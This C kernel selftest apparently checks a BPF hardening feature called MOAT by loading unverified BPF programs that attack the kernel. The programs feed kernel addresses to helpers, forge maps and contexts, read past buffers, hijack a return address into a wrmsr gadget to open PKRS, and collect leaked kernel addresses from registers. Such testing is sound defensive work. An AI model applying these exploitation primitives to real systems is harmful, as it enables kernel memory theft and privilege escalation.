// SPDX-License-Identifier: GPL-2.0
/* moat-test: kernel=test,preempt levels=2 cpus=4 keys=13,1,0 timeout=300 */
/*
 * Can a program that no verifier looked at get the kernel to do what it cannot do
 * itself?
 *
 * It gives helpers addresses, maps, contexts and lengths of its choice, returns to
 * kernel text of its choice, and looks at what is left in registers.
 */
#include <errno.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

static int hash;

static bool loot_is_set(struct run *run, const void *arg)
{
	return loot_at(0) != 0;
}

static bool deleted(struct run *run, const void *key)
{
	u64 v;

	return map_lookup(hash, key, &v) != 0;
}

static bool leaked(struct run *run, const void *value)
{
	u64 seven = 7, v = 0;
	bool found = !map_lookup(hash, &seven, &v) && v == *(const u64 *)value;

	map_delete(hash, &seven);
	return found;
}

static bool filled(struct run *run, const void *arg)
{
	return canary("data") == 0xabababababababab;
}

static bool packet_has(struct run *run, const void *value)
{
	return !memcmp((u8 *)run->data_out + 14, value, 8);
}

static bool packet_grew(struct run *run, const void *arg)
{
	u8 *p = (u8 *)run->data_out + 14 + 64, *end = p + 636;

	while (p < end && *p == 0xab)
		p++;
	return p < end;
}

static void helper_arguments(void)
{
	u64 data = target("data"), key, one = 1, mark = MARK;
	struct bpf_insn copy[128];
	int other, big, n, i;
	u8 zeros[1024] = {};
	u32 zero = 0;

	canary_reset();
	key = canary("data");

	/* a map key in kernel memory: does the hash have what is there? */
	hash = map_create(BPF_MAP_TYPE_HASH, 8, 8, 4);
	map_update(hash, &key, &one);
	struct bpf_insn lookup[] = {
		LD_MAP_FD(R1, hash),
		LD_IMM64(R2, data),
		CALL(map_lookup_elem),
		MOV_REG(R3, R0),
		TAKE_R3(),
		FINISH(&xdp),
	};
	ATTACK(lookup, &xdp, "rogue_key", "map_lookup_elem", 0, loot_is_set, NULL,
	       "map_lookup_elem takes its key from kernel memory");
	struct bpf_insn delete[] = {
		LD_MAP_FD(R1, hash),
		LD_IMM64(R2, data),
		CALL(map_delete_elem),
		MOV_REG(R3, R0),
		TAKE_R3(),
		FINISH(&socket_filter),
	};
	ATTACK(delete, &socket_filter, "rogue_delete", "map_delete_elem", 0, deleted, &key,
	       "map_delete_elem takes its key from kernel memory");

	/* a value in kernel memory, into a map that user space reads */
	struct bpf_insn update[] = {
		ST(BPF_DW, R10, -8, 7),
		LD_MAP_FD(R1, hash),
		MOV_REG(R2, R10),
		ALU64_IMM(BPF_ADD, R2, -8),
		LD_IMM64(R3, data),
		MOV_IMM(R4, 0),
		CALL(map_update_elem),
		FINISH(&sched_cls),
	};
	ATTACK(update, &sched_cls, "rogue_value", "map_update_elem", 0, leaked, &key,
	       "map_update_elem takes its value from kernel memory");

	/* a result into kernel memory */
	struct bpf_insn result[] = {
		MOV_IMM(R2, 14),
		LD_IMM64(R3, data),
		MOV_IMM(R4, 8),
		CALL(skb_load_bytes),
		FINISH(&sched_cls),
	};
	ATTACK(result, &sched_cls, "rogue_result", "skb_load_bytes", 0, filled, NULL,
	       "skb_load_bytes writes to kernel memory");

	/* and out of it, into the packet */
	struct bpf_insn store[] = {
		MOV_IMM(R2, 14),
		LD_IMM64(R3, data),
		MOV_IMM(R4, 8),
		MOV_IMM(R5, 0),
		CALL(skb_store_bytes),
		FINISH(&sched_act),
	};
	ATTACK(store, &sched_act, "rogue_store", "skb_store_bytes", 0, packet_has, &key,
	       "skb_store_bytes reads kernel memory");

	/* a map the program has no claim on */
	other = array_of(8);
	map_update(other, &zero, &mark);
	u64 addr = map_address(other);
	struct bpf_insn foreign[] = {
		ST(BPF_DW, R10, -8, 0),
		MOV_REG(R2, R10),
		ALU64_IMM(BPF_ADD, R2, -8),
		LD_IMM64(R1, addr),
		CALL(map_lookup_elem),
		JMP_IMM(BPF_JEQ, R0, 0, 4),
		LDX(BPF_DW, R3, R0, 0),
		TAKE_R3(),
		FINISH(&xdp),
	};
	ATTACK(foreign, &xdp, "rogue_map", "map_lookup_elem", 0, loot_is, &mark,
	       "map_lookup_elem gets a map of others");

	/* a map of its own making: a copy of a real one, in a map value */
	big = array_of(1024);
	map_update(big, &zero, zeros);
	struct bpf_insn head[] = {
		LD_IMM64(R2, addr),
		LD_MAP_VALUE(R1, big, 0),
	};
	memcpy(copy, head, sizeof(head));
	n = ARRAY_SIZE(head);
	for (i = 0; i < 48; i++) {
		/* at level 2 that would be an offence already */
		copy[n++] = level ? MOV_IMM(R3, 0) : LDX(BPF_DW, R3, R2, 8 * i);
		copy[n++] = STX(BPF_DW, R1, R3, 8 * i);
	}
	struct bpf_insn tail[] = {
		ST(BPF_DW, R10, -8, 0),
		MOV_REG(R2, R10),
		ALU64_IMM(BPF_ADD, R2, -8),
		CALL(map_lookup_elem),
		MOV_REG(R3, R0),
		TAKE_R3(),
		FINISH(&xdp),
	};
	memcpy(copy + n, tail, sizeof(tail));
	n += ARRAY_SIZE(tail);
	attack(&(struct attack){ &xdp, "rogue_forged", "map_lookup_elem", 0, loot_is_set, NULL,
				 "map_lookup_elem gets a map the program has made" }, copy, n);

	/* a context of its own making: struct xdp_buff begins with data, data_end */
	struct bpf_insn forged_ctx[] = {
		LD_MAP_VALUE(R1, big, 0),
		LD_IMM64(R2, data),
		STX(BPF_DW, R1, R2, 0),
		ALU64_IMM(BPF_ADD, R2, 64),
		STX(BPF_DW, R1, R2, 8),
		MOV_IMM(R2, 0),
		STX(BPF_DW, R1, R2, 16),
		STX(BPF_DW, R1, R2, 24),
		STX(BPF_DW, R1, R2, 32),
		STX(BPF_DW, R1, R2, 40),
		STX(BPF_DW, R1, R2, 48),
		MOV_REG(R3, R10),
		ALU64_IMM(BPF_ADD, R3, -8),
		MOV_IMM(R4, 8),
		CALL(xdp_load_bytes),
		LDX(BPF_DW, R3, R10, -8),
		TAKE_R3(),
		FINISH(&xdp),
	};
	ATTACK(forged_ctx, &xdp, "rogue_forged_c", "xdp_load_bytes", 0, loot_is, &key,
	       "xdp_load_bytes gets a context the program has made");

	/*
	 * Too long: from 64 bytes before the end of a page, 700 bytes. The packet
	 * is full of 0xab, so what replaces it came from behind the page. At level
	 * 0 that is a page of the packet's, for what is behind the page of a map
	 * value may not be mapped; at level 2 it is the map value's, for the packet
	 * is in a buffer of many pages.
	 */
	struct bpf_insn oversized[] = {
		MOV_REG(R6, R1),
		LDX(BPF_W, R3, R6, offsetof(struct __sk_buff, data)),
		ALU64_IMM(BPF_OR, R3, 4095),
		ALU64_IMM(BPF_SUB, R3, 63),
		MOV_REG(R1, R6),
		MOV_IMM(R2, 14),
		MOV_IMM(R4, 700),
		MOV_IMM(R5, 0),
		CALL(skb_store_bytes),
		MOV_REG(R3, R0),
		TAKE_R3(),
		FINISH(&sched_cls),
	};
	if (level == 0)
		ATTACK(oversized, &sched_cls, "rogue_long", "skb_store_bytes", 0, packet_grew,
		       NULL, "skb_store_bytes reads past the packet");
	struct bpf_insn past_value[] = {
		MOV_REG(R6, R1),
		LD_MAP_VALUE(R3, big, 0),
		ALU64_IMM(BPF_OR, R3, 4095),
		ALU64_IMM(BPF_SUB, R3, 63),
		MOV_REG(R1, R6),
		MOV_IMM(R2, 14),
		MOV_IMM(R4, 700),
		MOV_IMM(R5, 0),
		CALL(skb_store_bytes),
		FINISH(&sched_cls),
	};
	if (level == 2)
		ATTACK(past_value, &sched_cls, "rogue_long_map", "skb_store_bytes", 0, packet_grew,
		       NULL, "skb_store_bytes reads past a map value");
	struct bpf_insn huge[] = {
		MOV_IMM(R2, 0),
		MOV_REG(R3, R10),
		ALU64_IMM(BPF_ADD, R3, -8),
		MOV_IMM(R4, 0x7fffffff),
		CALL(skb_load_bytes),
		FINISH(&socket_filter),
	};
	if (level == 2)
		ATTACK(huge, &socket_filter, "rogue_huge", "skb_load_bytes", 0, filled, NULL,
		       "skb_load_bytes clears 2 GiB from the stack up");
	close(big);
	close(other);
	close(hash);
}

/*
 * A function that returns to where it likes: into kernel text that writes an
 * MSR, with registers that name PKRS and open everything, and from there back
 * into its caller, which then reads kernel memory.
 */
static void return_address(void)
{
	u64 gadget = target("wrmsr"), data = target("data"), value;
	struct bpf_insn insns[] = {
		/* the frame a return address is hidden under: nothing saved there */
		ST(BPF_DW, R10, -64, 0),
		CALL_REL(11),
		LD_IMM64(R2, data),
		LDX(BPF_DW, R3, R2, 0),
		LD_MAP_VALUE(R1, loot, 0),
		STX(BPF_DW, R1, R3, 0),
		LD_IMM64(R2, DONE),
		STX(BPF_DW, R1, R2, 8),
		MOV_IMM(R0, xdp.pass),
		EXIT(),
		/* the function */
		LDX(BPF_DW, R4, R10, 8),
		STX(BPF_DW, R10, R4, 16),
		LD_IMM64(R4, gadget),
		STX(BPF_DW, R10, R4, 8),
		MOV_IMM(R1, 0x6e1),
		MOV_IMM(R2, 0),
		MOV_IMM(R3, 0),
		MOV_IMM(R4, 0x6e1),
		MOV_IMM(R0, 0),
		EXIT(),
	};
	struct run run;
	bool out;
	int fd;

	canary_reset();
	loot_clear();
	value = canary("data");
	fd = load(&xdp, "rogue_return", insns, ARRAY_SIZE(insns));
	if (fd < 0) {
		ok(false, "%d: xdp returns into kernel text: loads", level);
		return;
	}
	run_packet(&run, 64);
	kmsg_mark();
	prog_run(fd, &run);
	out = loot_at(0) == value;
	if (level == 0)
		ok(out && run.retval == xdp.pass, "0: xdp returns into kernel text: succeeds");
	else
		ok(!out, "2: xdp returns into kernel text that opens PKRS: nothing got out");
	if (level == 2) {
		ok(run.retval == xdp.safe,
		   "2: xdp returns into kernel text that opens PKRS: stopped");
		ok(reported(kmsg_stopped(fd, "rogue_return"), RETURN, 0),
		   "2: xdp returns into kernel text that opens PKRS: reported");
		ok(others_run(), "2: xdp returns into kernel text that opens PKRS: others go on");
	}
	close(fd);
}

static bool kernel_address(u64 v)
{
	/* the upper half without the MOAT window */
	return v >= 0xff00000000000000ULL && v < 0xffffffffff000000ULL &&
	       (v < 0xfffffe8000000000ULL || v >= 0xffffff0000000000ULL);
}

/* What a program finds in registers it never set. */
static void registers(void)
{
	struct bpf_insn insns[40] = { LD_MAP_VALUE(R1, loot, 0) };
	struct bpf_insn take_r0[] = { LD_MAP_VALUE(R0, loot, 0) };
	bool found = false;
	int fd, i, n = 2;

	/* R1 is in use, R10 is its own */
	for (i = 2; i <= 9; i++)
		insns[n++] = STX(BPF_DW, R1, i, 8 * i);
	insns[n++] = CALL(ktime_get_ns);
	memcpy(insns + n, take_r0, sizeof(take_r0));
	n += ARRAY_SIZE(take_r0);
	for (i = 2; i <= 5; i++)
		insns[n++] = STX(BPF_DW, R0, i, 72 + 8 * (i - 1));
	insns[n++] = MOV_IMM(R0, 2);
	insns[n++] = EXIT();

	loot_clear();
	fd = load(&xdp, "nosy", insns, n);
	if (fd < 0) {
		ok(false, "%d: registers: loads", level);
		return;
	}
	prog_run_once(fd);
	for (i = 2; i <= 14; i++) {
		if (!kernel_address(loot_at(i)))
			continue;
		found = true;
		if (level)
			diag("%s: %lx", i < 10 ? "at entry" : "after a helper", loot_at(i));
	}
	ok(found == !level, "%d: %s kernel addresses in registers the program has not set",
	   level, level ? "no" : "there are");
	close(fd);
}

/* What the kernel dies of at level 0: see test_oops. */
static void head_room(s32 room)
{
	struct bpf_insn insns[] = {
		MOV_REG(R6, R1),
		MOV_IMM(R2, 2),
		MOV_IMM(R3, 0),
		CALL(skb_change_head),
		MOV_REG(R1, R6),
		MOV_IMM(R2, room),
		MOV_IMM(R3, 0),
		CALL(skb_change_head),
		EXIT(),
	};
	struct __sk_buff ctx = { .gso_size = 10 };
	struct run run;
	int fd;

	if (!level)
		return;
	run_packet(&run, 64);
	run.ctx_in = &ctx;
	run.ctx_in_size = sizeof(ctx);
	fd = load(&sched_cls, "no_head_room", insns, ARRAY_SIZE(insns));
	ok(fd >= 0 && !prog_run(fd, &run) && run.retval == (u32)-EINVAL,
	   "%d: sched_cls asks for head room of %#x: EINVAL", level, room);
	ok(others_run(), "%d: sched_cls asks for head room of %#x: others go on", level, room);
	close(fd);
}

static int queue;

static bool queued(struct run *run, const void *value)
{
	union bpf_attr attr = { .map_fd = queue };
	u64 v = 0;

	attr.value = (uintptr_t)&v;
	return !syscall(__NR_bpf, BPF_MAP_LOOKUP_AND_DELETE_ELEM, &attr, sizeof(attr)) &&
	       v == *(const u64 *)value;
}

/* Maps whose values are copied */
static void queue_arguments(void)
{
	u64 data = target("data"), fill = 0xabababababababab, value;
	struct bpf_insn push[] = {
		LD_MAP_FD(R1, 0),
		LD_IMM64(R2, data),
		MOV_IMM(R3, 0),
		CALL(map_push_elem),
		FINISH(&xdp),
	};
	struct bpf_insn pop[] = {
		LD_MAP_FD(R1, 0),
		LD_IMM64(R2, data),
		CALL(map_pop_elem),
		FINISH(&sched_cls),
	};

	canary_reset();
	value = canary("data");
	queue = map_create(BPF_MAP_TYPE_QUEUE, 0, 8, 4);
	if (queue < 0)
		bail("queue: %s", strerror(errno));
	push[0].imm = queue;
	pop[0].imm = queue;
	ATTACK(push, &xdp, "rogue_push", "map_push_elem", 0, queued, &value,
	       "map_push_elem takes its value from kernel memory");
	if (map_update(queue, NULL, &fill))
		bail("queue: %s", strerror(errno));
	ATTACK(pop, &sched_cls, "rogue_pop", "map_pop_elem", 0, filled, NULL,
	       "map_pop_elem writes its value to kernel memory");
	canary_reset();
	close(queue);
}

static void attacks(void)
{
	helper_arguments();
	queue_arguments();
	head_room((s32)0x80001000);
	head_room(0x7fffffff);
	return_address();
	registers();
}

int main(void)
{
	return at_each_level(attacks);
}
